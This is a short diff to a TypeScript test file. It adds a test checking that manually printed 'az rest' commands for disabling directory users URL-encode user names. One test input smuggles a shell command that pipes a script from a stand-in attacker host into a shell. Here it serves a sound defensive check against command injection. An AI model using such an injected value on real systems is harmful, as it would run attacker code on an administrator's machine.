@@ -97,6 +97,16 @@ test("says of those who were only listed that they get in", () => {
   expect(blockedLines([], { value: [] }, GRAPH, 200)).toEqual([]);
 });
 
+test("prints no request by hand in which a name of the directory or a record would run as a command", () => {
+  const by = (upn: string) => blockedLines([], { value: [{ ...ADA, upn }] }, GRAPH, 200).at(-1);
+  const request = (name: string) =>
+    `  az rest --method PATCH --url ${GRAPH}/v1.0/users/${name} --body '{"accountEnabled": false}'`;
+  expect(by("o'brien!@example.com")).toBe(request("o%27brien%21@example.com"));
+  expect(by("a;$(curl evil.example|sh)#@example.com")).toBe(
+    request("a%3B%24%28curl%20evil.example%7Csh%29%23@example.com"),
+  );
+});
+
 test("tells an undo whom the rollback blocked, or may have", () => {
   const outcomes = ["blocked", "not blocked", "intended"] as const;
   const blocked = outcomes.map((outcome) => ({ upn: `${outcome}@example.com`, id: "1", outcome }));
